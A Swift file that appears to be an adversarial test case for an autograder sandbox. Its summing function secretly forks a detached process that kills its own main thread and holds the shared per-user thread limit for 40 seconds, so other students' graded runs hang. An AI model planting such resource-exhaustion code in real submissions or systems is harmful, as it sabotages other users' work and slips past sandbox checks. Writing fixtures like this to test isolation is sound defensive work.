// Attack on the students graded after this one: RLIMIT_NPROC counts every task of a user, and
// every test run of a class grade runs as the same user (nobody, when the grader is root). Leave
// behind a process (its main thread gone, as in sandbox-outlive-the-check) that takes every task
// the limit allows and keeps taking those that become free: a run that starts meanwhile cannot
// start the threads Swift's concurrency runtime needs, and hangs until its time limit. It gives
// up after 40 seconds; nothing would stop it from going on for ever.
import Foundation

#if canImport(Glibc)
    import Glibc
#elseif canImport(Darwin)
    import Darwin
#endif

typealias Prctl = @convention(c) (Int32, UInt, UInt, UInt, UInt) -> Int32
typealias Syscall = @convention(c) (Int, Int) -> Int

func total(_ values: [Int]) -> Int {
    let prctl = dlsym(nil, "prctl").map { unsafeBitCast($0, to: Prctl.self) }
    let syscall = dlsym(nil, "syscall").map { unsafeBitCast($0, to: Syscall.self) }
    let name = strdup("taken-tasks")
    if fork() == 0 {
        _ = setsid()
        // PR_SET_NAME, so that the test can find what is left.
        if let prctl, let name { _ = prctl(15, UInt(bitPattern: name), 0, 0, 0) }
        let taker: @convention(c) (UnsafeMutableRawPointer?) -> UnsafeMutableRawPointer? = { _ in
            // Small stacks, so that the memory limit does not stop it first.
            var attributes = pthread_attr_t()
            pthread_attr_init(&attributes)
            pthread_attr_setstacksize(&attributes, 64 << 10)
            let holder: @convention(c) (UnsafeMutableRawPointer?) -> UnsafeMutableRawPointer? = { _ in
                sleep(40)
                return nil
            }
            let end = time(nil) + 40
            while time(nil) < end {
                var thread = pthread_t()
                if pthread_create(&thread, &attributes, holder, nil) != 0 { usleep(1000) }
            }
            _exit(0)
        }
        var thread = pthread_t()
        guard pthread_create(&thread, nil, taker, nil) == 0 else { _exit(0) }
        // SYS_exit ends this thread only.
        #if arch(x86_64)
            _ = syscall?(60, 0)
        #else
            _ = syscall?(93, 0)
        #endif
        _exit(0)
    }
    return values.reduce(0, +)
}
